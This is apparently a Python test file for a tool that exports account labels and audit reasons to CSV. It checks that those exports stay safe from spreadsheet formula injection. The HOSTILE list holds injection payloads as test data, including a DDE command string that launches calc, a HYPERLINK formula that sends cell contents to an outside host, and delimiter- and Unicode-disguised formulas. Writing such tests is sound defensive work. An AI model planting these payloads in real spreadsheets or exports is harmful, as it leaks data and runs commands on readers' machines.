"""No account's name, reason or text becomes a formula in a table that a person opens, and none becomes another's on its way back."""

import csv
import io
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from stillwatch.cli.written import as_csv
from stillwatch.core import AuditLog
from stillwatch.core.cells import as_cell, from_cell
from stillwatch.policy import label_account, read_label_file

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\n=1",
    "\uff1d1+1",
    "'=1+1",
    "''=1",
    "'tis",
    "plain",
    # Where a semicolon parts cells, or what stands before is passed over.
    "a;=1+1;b",
    "a;'=1",
    'a; "=1+1"',
    "a\n=1+1",
    "a\t@SUM(1)",
    "a\r\n-2+3",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    # What ends a line for some, and none for others.
    "a\u2028b",
    "a\x0bb",
    "a\x1cb",
    "a\rb",
    "a\r\nb",
]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_is_no_formula_and_comes_back_as_it_was(text: str) -> None:
    assert not as_cell(text).startswith(BEGINS)
    assert from_cell(as_cell(text)) == text


@pytest.mark.parametrize("parts_at", [";", "\t"])
def test_where_something_else_parts_cells_none_is_a_formula_either(parts_at: str) -> None:
    text = as_csv([{"account_id": "a", "reason": one} for one in HOSTILE])
    # A spreadsheet takes no notice of quotes that begin within a cell.
    cells = [cell.lstrip(' "\u00a0\ufeff') for line in text.splitlines() for cell in line.split(parts_at)]
    assert not [cell for cell in cells if cell.startswith(BEGINS)]


def test_a_table_of_the_command_line_holds_no_formula() -> None:
    found = list(csv.reader(io.StringIO(as_csv([{"account_id": one, "n": -1, "all": [one]} for one in HOSTILE]))))
    assert [row[1] for row in found[1:]] == ["-1"] * len(HOSTILE)
    assert not [cell for row in found[1:] for cell in (row[0], row[2]) if cell.startswith(BEGINS)]


def test_labels_go_out_and_come_back_of_the_same_accounts(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "decisions.jsonl")
    for one in HOSTILE:
        label_account(log, one, "cleared", by="Ada", reason=one, now=datetime.now(UTC))
    out = tmp_path / "labels.csv"
    command = [sys.executable, "-m", "stillwatch", "labels", "export", str(log.path), "--out", str(out)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    cells = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert not [cell for row in cells for cell in row if cell.startswith(BEGINS)]
    assert sorted(line.account for line in read_label_file(out)) == sorted(HOSTILE)
